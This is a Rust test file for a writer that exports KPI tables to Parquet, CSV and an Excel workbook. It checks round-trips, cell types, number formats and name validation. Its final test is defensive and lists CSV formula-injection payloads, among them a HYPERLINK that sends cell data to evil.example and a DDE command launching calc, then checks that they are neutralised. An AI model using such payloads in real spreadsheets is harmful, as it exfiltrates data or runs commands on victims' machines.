//! Tests of the table writer: files read back equal to the input, typed workbook cells, stable
//! bytes, and errors that name the offending table. Small tables only, so they stay fast.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use calamine::{open_workbook, Data, Range, Reader, Xlsx};
use chrono::{NaiveDate, NaiveDateTime};
use polars::prelude::*;

use super::cells::{excel_serial, NumberStyle};
use super::workbook::fit_width;
use super::*;

const WORKBOOK: &str = "tables.xlsx";
/// 2024-06-01 12:00 UTC, 13:00 on a London clock (BST).
const JUNE_NOON_UTC_MS: i64 = 1_717_243_200_000;
/// 2024-01-15 09:30 UTC, the same on a London clock (GMT).
const JANUARY_UTC_MS: i64 = 1_705_311_000_000;
/// 2024-03-31 and 1999-12-31 as days since 1970-01-01.
const MARCH_31_2024: i32 = 19_813;
const DEC_31_1999: i32 = 10_956;

fn london() -> TimeZone {
    TimeZone::opt_try_new(Some("Europe/London"))
        .expect("a known zone")
        .expect("a zone")
}

/// Every kind of column a KPI table holds, with a null in each and awkward values for CSV.
fn calls_frame() -> DataFrame {
    let mut frame = df!(
        "service" => [Some("Housing"), Some("Revenues, \"Benefits\""), None, Some("Café\nsecond line")],
        "contacts" => [Some(1_200u32), Some(35), None, Some(0)],
        "answered_share" => [Some(6.0f64), Some(12.345), None, Some(100.0)],
        "mean_wait" => [Some(1.0f64 / 3.0), Some(1e-17), None, Some(123_456.789_012_345)],
        "resolved" => [Some(true), Some(false), None, Some(true)],
    )
    .expect("frame");
    let date = Series::new(
        "date".into(),
        [Some(MARCH_31_2024), Some(DEC_31_1999), None, Some(0)],
    )
    .cast(&DataType::Date)
    .expect("date");
    let started = Series::new(
        "started".into(),
        [Some(JUNE_NOON_UTC_MS), Some(JANUARY_UTC_MS), None, Some(0)],
    )
    .cast(&DataType::Datetime(TimeUnit::Milliseconds, Some(london())))
    .expect("datetime");
    let june_noon_utc_us = JUNE_NOON_UTC_MS * 1_000;
    let logged = Series::new(
        "logged".into(),
        [Some(june_noon_utc_us), None, None, Some(0)],
    )
    .cast(&DataType::Datetime(TimeUnit::Microseconds, None))
    .expect("naive datetime");
    frame
        .hstack_mut(&[date.into(), started.into(), logged.into()])
        .expect("columns");
    frame
}

fn calls_table() -> Table {
    Table {
        name: "contact_centre".into(),
        title: "Contact centre performance".into(),
        description: "One row per service and day.".into(),
        frame: calls_frame(),
        formats: BTreeMap::from([("answered_share".to_string(), ColumnFormat::Percent(1))]),
        counts: None,
    }
}

fn shift_table() -> Table {
    Table {
        name: "channel_shift".into(),
        title: "Channel shift against targets".into(),
        description: "One row per channel and financial year.".into(),
        frame: df!(
            "channel" => ["telephone", "web"],
            "contacts" => [52_000i64, 61_500],
            "share" => [45.8f64, 54.2],
        )
        .expect("frame"),
        formats: BTreeMap::from([
            ("share".to_string(), ColumnFormat::Decimal(1)),
            ("contacts".to_string(), ColumnFormat::Integer),
        ]),
        counts: None,
    }
}

fn table_named(name: &str) -> Table {
    Table {
        name: name.into(),
        ..shift_table()
    }
}

fn write(dir: &Path, tables: &[Table]) -> Vec<PathBuf> {
    write_tables(dir, tables, WORKBOOK).expect("tables written")
}

fn open(path: &Path) -> Xlsx<std::io::BufReader<std::fs::File>> {
    open_workbook(path).expect("workbook opens")
}

fn sheet(path: &Path, name: &str) -> Range<Data> {
    open(path).worksheet_range(name).expect("sheet")
}

fn cell(range: &Range<Data>, row: u32, col: u32) -> Data {
    range.get_value((row, col)).cloned().unwrap_or(Data::Empty)
}

fn number(range: &Range<Data>, row: u32, col: u32) -> f64 {
    match cell(range, row, col) {
        Data::Float(v) => v,
        Data::Int(v) => v as f64,
        other => panic!("row {row} col {col} holds {other:?}, not a number"),
    }
}

fn datetime(range: &Range<Data>, row: u32, col: u32) -> NaiveDateTime {
    match cell(range, row, col) {
        Data::DateTime(dt) => dt.as_datetime().expect("a datetime"),
        other => panic!("row {row} col {col} holds {other:?}, not a date cell"),
    }
}

fn ymd_hm(y: i32, m: u32, d: u32, h: u32, min: u32) -> NaiveDateTime {
    NaiveDate::from_ymd_opt(y, m, d)
        .and_then(|date| date.and_hms_opt(h, min, 0))
        .expect("a valid time")
}

fn column_index(table: &Table, name: &str) -> u32 {
    let names = table.frame.get_column_names();
    names
        .iter()
        .position(|n| n.as_str() == name)
        .expect("column") as u32
}

#[test]
fn returns_the_files_written_in_order() {
    let dir = tempfile::tempdir().expect("tempdir");
    let written = write(dir.path(), &[calls_table(), shift_table()]);
    let names: Vec<String> = written
        .iter()
        .map(|p| {
            p.strip_prefix(dir.path())
                .expect("inside dir")
                .display()
                .to_string()
        })
        .collect();
    assert_eq!(
        names,
        [
            "contact_centre.parquet",
            "contact_centre.csv",
            "channel_shift.parquet",
            "channel_shift.csv",
            WORKBOOK,
            INDEX_FILE
        ]
    );
    assert!(written.iter().all(|p| p.is_file()));
    let leftovers = std::fs::read_dir(dir.path())
        .expect("dir")
        .filter_map(Result::ok)
        .filter(|e| e.file_name().to_string_lossy().ends_with(".partial"))
        .count();
    assert_eq!(leftovers, 0);
}

#[test]
fn parquet_and_csv_read_back_equal_the_input() {
    let dir = tempfile::tempdir().expect("tempdir");
    let table = calls_table();
    write(dir.path(), std::slice::from_ref(&table));

    let file = std::fs::File::open(dir.path().join("contact_centre.parquet")).expect("parquet");
    let parquet = ParquetReader::new(file).finish().expect("parquet reads");
    assert!(parquet.equals_missing(&table.frame), "{parquet}");

    let csv = CsvReadOptions::default()
        .with_has_header(true)
        .with_schema(Some(table.frame.schema().clone()))
        .try_into_reader_with_file_path(Some(dir.path().join("contact_centre.csv")))
        .and_then(|r| r.finish())
        .expect("csv reads");
    assert!(csv.equals_missing(&table.frame), "{csv}\n{}", table.frame);

    let text = std::fs::read_to_string(dir.path().join("contact_centre.csv")).expect("utf-8");
    let mut lines = text.lines();
    assert_eq!(
        lines.next(),
        Some("service,contacts,answered_share,mean_wait,resolved,date,started,logged")
    );
    let first = lines.next().expect("a row");
    assert!(
        first.contains(",2024-03-31,2024-06-01T13:00:00.000+0100,"),
        "{first}"
    );
    assert!(first.contains(",0.3333333333333333,"), "{first}");
}

#[test]
fn workbook_has_contents_first_then_a_sheet_per_table() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join(WORKBOOK);
    write(dir.path(), &[calls_table(), shift_table()]);

    let mut workbook = open(&path);
    assert_eq!(
        workbook.sheet_names(),
        ["Contents", "contact_centre", "channel_shift"]
    );
    let contents = workbook.worksheet_range("Contents").expect("contents");
    let row = |r: u32| -> Vec<Data> { (0..4).map(|c| cell(&contents, r, c)).collect() };
    assert_eq!(
        row(0),
        ["Sheet", "Title", "Description", "Rows"].map(|s| Data::String(s.into()))
    );
    assert_eq!(
        row(1)[..3],
        [
            "contact_centre",
            "Contact centre performance",
            "One row per service and day."
        ]
        .map(|s| Data::String(s.into()))
    );
    assert_eq!(number(&contents, 1, 3), 4.0);
    assert_eq!(cell(&contents, 2, 0), Data::String("channel_shift".into()));
    assert_eq!(number(&contents, 2, 3), 2.0);
    assert_eq!(cell(&contents, 1, 4), Data::Empty, "not cut");

    let links = workbook
        .hyperlinks_by_sheet_name("Contents")
        .expect("links");
    let locations: Vec<Option<String>> = links.into_iter().map(|l| l.location).collect();
    assert_eq!(
        locations,
        [
            Some("'contact_centre'!A1".to_string()),
            Some("'channel_shift'!A1".to_string())
        ]
    );
}

#[test]
fn workbook_cells_hold_typed_values() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join(WORKBOOK);
    let table = calls_table();
    write(dir.path(), std::slice::from_ref(&table));
    let range = sheet(&path, "contact_centre");
    let col = |name: &str| column_index(&table, name);

    assert_eq!(
        cell(&range, 0, col("service")),
        Data::String("service".into())
    );
    assert_eq!(
        cell(&range, 2, col("service")),
        Data::String("Revenues, \"Benefits\"".into())
    );
    assert_eq!(number(&range, 1, col("contacts")), 1_200.0);
    // Percent(1): 6.0 percent units are stored as the fraction Excel's % format expects.
    assert_eq!(number(&range, 1, col("answered_share")), 0.06);
    assert_eq!(number(&range, 4, col("answered_share")), 1.0);
    assert_eq!(number(&range, 1, col("mean_wait")), 1.0 / 3.0);
    assert_eq!(number(&range, 2, col("mean_wait")), 1e-17);
    assert_eq!(cell(&range, 1, col("resolved")), Data::Bool(true));
    assert_eq!(cell(&range, 2, col("resolved")), Data::Bool(false));
    assert_eq!(datetime(&range, 1, col("date")), ymd_hm(2024, 3, 31, 0, 0));
    assert_eq!(datetime(&range, 2, col("date")), ymd_hm(1999, 12, 31, 0, 0));
    // Zoned datetimes are shown on the local clock: 12:00 UTC in June is 13:00 in London.
    assert_eq!(
        datetime(&range, 1, col("started")),
        ymd_hm(2024, 6, 1, 13, 0)
    );
    assert_eq!(
        datetime(&range, 2, col("started")),
        ymd_hm(2024, 1, 15, 9, 30)
    );
    assert_eq!(
        datetime(&range, 1, col("logged")),
        ymd_hm(2024, 6, 1, 12, 0)
    );
    for name in table.frame.get_column_names() {
        assert_eq!(cell(&range, 3, col(name)), Data::Empty, "null in {name}");
    }
}

#[test]
fn workbook_header_is_bold_and_numbers_carry_their_formats() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join(WORKBOOK);
    let table = calls_table();
    write(dir.path(), &[table.clone(), shift_table()]);
    let mut workbook = open(&path);
    let styles = workbook.worksheet_style("contact_centre").expect("styles");
    let format_of = |name: &str| {
        styles
            .get((1, column_index(&table, name)))
            .and_then(|s| s.number_format.clone())
            .map(|f| f.format_code)
            .unwrap_or_default()
    };
    assert_eq!(format_of("contacts"), "#,##0");
    assert_eq!(format_of("answered_share"), "0.0%");
    assert_eq!(format_of("mean_wait"), "#,##0.00");
    assert_eq!(format_of("date"), "dd/mm/yyyy");
    assert_eq!(format_of("started"), "dd/mm/yyyy hh:mm");
    let header = styles
        .get((0, 0))
        .and_then(|s| s.font.clone())
        .expect("font");
    assert!(header.is_bold());

    let shift = workbook.worksheet_style("channel_shift").expect("styles");
    let share = shift.get((1, 2)).and_then(|s| s.number_format.clone());
    assert_eq!(share.map(|f| f.format_code).as_deref(), Some("#,##0.0"));
}

#[test]
fn writing_twice_gives_byte_identical_workbooks() {
    let first = tempfile::tempdir().expect("tempdir");
    let second = tempfile::tempdir().expect("tempdir");
    let tables = [calls_table(), shift_table()];
    write(first.path(), &tables);
    write(second.path(), &tables);
    let bytes = |dir: &Path| std::fs::read(dir.join(WORKBOOK)).expect("workbook");
    assert_eq!(bytes(first.path()), bytes(second.path()));
}

#[test]
fn a_table_longer_than_a_sheet_is_cut_there_and_whole_in_the_files() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join(WORKBOOK);
    let long = Table {
        name: "long".into(),
        frame: df!("n" => (0..10i64).collect::<Vec<_>>()).expect("frame"),
        formats: BTreeMap::new(),
        ..shift_table()
    };
    write_tables_with_sheet_limit(dir.path(), &[long], WORKBOOK, 3).expect("written");

    let range = sheet(&path, "long");
    assert_eq!(range.end(), Some((3, 0)), "header and three rows");
    assert_eq!(number(&range, 3, 0), 2.0);
    let contents = sheet(&path, "Contents");
    assert_eq!(number(&contents, 1, 3), 10.0, "rows of the whole table");
    let Data::String(note) = cell(&contents, 1, 4) else {
        panic!("no note on a cut table");
    };
    assert!(note.contains("first 3 of 10 rows"), "{note}");
    assert!(note.contains("long.csv and long.parquet"), "{note}");

    let csv = std::fs::read_to_string(dir.path().join("long.csv")).expect("csv");
    assert_eq!(csv.lines().count(), 11);
}

#[test]
fn bad_table_names_are_rejected_naming_them_before_anything_is_written() {
    let too_long = "a".repeat(32);
    for name in ["bad name", "", too_long.as_str(), "contents", "q1/q2"] {
        let dir = tempfile::tempdir().expect("tempdir");
        let err = write_tables(dir.path(), &[shift_table(), table_named(name)], WORKBOOK)
            .expect_err(name);
        assert!(matches!(err, OutputError::BadName { .. }), "{err}");
        assert!(err.to_string().contains(&format!("'{name}'")), "{err}");
        let files = std::fs::read_dir(dir.path()).expect("dir").count();
        assert_eq!(files, 0, "nothing written for {name:?}");
    }
}

#[test]
fn duplicate_names_are_rejected_naming_both() {
    let dir = tempfile::tempdir().expect("tempdir");
    let err = write_tables(
        dir.path(),
        &[table_named("calls"), shift_table(), table_named("Calls")],
        WORKBOOK,
    )
    .expect_err("duplicate");
    let message = err.to_string();
    assert!(message.contains("'calls' and 'Calls'"), "{message}");
}

#[test]
fn a_bad_workbook_name_is_rejected() {
    let dir = tempfile::tempdir().expect("tempdir");
    for name in ["tables.csv", "sub/tables.xlsx", ".xlsx"] {
        let err = write_tables(dir.path(), &[shift_table()], name).expect_err(name);
        assert!(err.to_string().contains(name), "{err}");
    }
}

#[test]
fn formats_that_do_not_fit_their_column_are_rejected_naming_it() {
    let dir = tempfile::tempdir().expect("tempdir");
    let with_format = |column: &str, format: ColumnFormat| Table {
        formats: BTreeMap::from([(column.to_string(), format)]),
        ..shift_table()
    };
    let cases = [
        (with_format("channel", ColumnFormat::Percent(1)), "is text"),
        (with_format("contacts", ColumnFormat::Date), "is a number"),
        (
            with_format("channnel", ColumnFormat::Text),
            "not in the table",
        ),
        (
            with_format("share", ColumnFormat::Decimal(40)),
            "40 decimal places",
        ),
    ];
    for (table, problem) in cases {
        let err = write_tables(dir.path(), &[table], WORKBOOK).expect_err(problem);
        let message = err.to_string();
        assert!(
            message.starts_with("table 'channel_shift', column '"),
            "{message}"
        );
        assert!(message.contains(problem), "{message}");
    }
}

#[test]
fn excel_serials_follow_the_1900_date_system() {
    assert_eq!(excel_serial(0.0), Some(25_569.0));
    assert_eq!(excel_serial(0.5), Some(25_569.5));
    let days = |y, m, d| {
        let date = NaiveDate::from_ymd_opt(y, m, d).expect("date");
        (date - NaiveDate::from_ymd_opt(1970, 1, 1).expect("epoch")).num_days() as f64
    };
    assert_eq!(excel_serial(days(1900, 3, 1)), Some(61.0));
    assert_eq!(excel_serial(days(1900, 2, 28)), Some(59.0));
    assert_eq!(excel_serial(days(1900, 1, 1)), Some(1.0));
    assert_eq!(excel_serial(days(1899, 12, 31)), None);
}

#[test]
fn widths_count_the_characters_excel_shows() {
    assert_eq!(
        NumberStyle::Fixed(2).shown_width(1_234_567.891),
        "1,234,567.89".len()
    );
    assert_eq!(NumberStyle::Fixed(0).shown_width(-1_000.0), "-1,000".len());
    assert_eq!(NumberStyle::Fixed(0).shown_width(999.6), "1,000".len());
    assert_eq!(NumberStyle::Percent(1).shown_width(0.0625), "6.3%".len());
    assert_eq!(NumberStyle::General.shown_width(1.0 / 3.0), 11);
    assert_eq!(fit_width(3), 8.0);
    assert_eq!(fit_width(20), 20.0);
    assert_eq!(fit_width(500), 60.0);
}

#[test]
fn counts_are_grouped_in_thousands() {
    assert_eq!(thousands(1_048_575.0), "1,048,575");
    assert_eq!(thousands(-191.0), "-191");
    assert_eq!(thousands(999.6), "1,000");
}

#[test]
fn csv_cells_a_spreadsheet_would_run_are_neutralised_and_numbers_are_not(
) -> Result<(), Box<dyn std::error::Error>> {
    let dir = tempfile::tempdir()?;
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"x\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\tTab",
        "\rReturn",
        "Paid £120 at 10:30",
        "Housing",
    ];
    let table = Table {
        name: "hostile".into(),
        frame: df!(
            "service" => hostile,
            "change" => [-5i64, 1, 2, 3, 4, 5, 6, 7],
            "change_pct" => [-1.5f64, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0],
        )?,
        formats: BTreeMap::new(),
        ..shift_table()
    };
    let path = files::write_csv(dir.path(), &table)?;
    let back = CsvReadOptions::default()
        .with_has_header(true)
        .try_into_reader_with_file_path(Some(path))?
        .finish()?;
    let services: Vec<String> = back
        .column("service")?
        .str()?
        .iter()
        .map(|v| v.unwrap_or_default().to_string())
        .collect();
    for (written, original) in services.iter().zip(hostile) {
        let risky = original.starts_with(['=', '+', '-', '@', '\t', '\r']);
        if risky {
            assert_eq!(written, &format!("'{original}"));
        } else {
            assert_eq!(written, original);
        }
    }
    // Numbers stay numbers, minus signs included; Parquet keeps the text as it is.
    assert_eq!(back.column("change")?.i64()?.get(0), Some(-5));
    assert_eq!(back.column("change_pct")?.f64()?.get(0), Some(-1.5));
    Ok(())
}
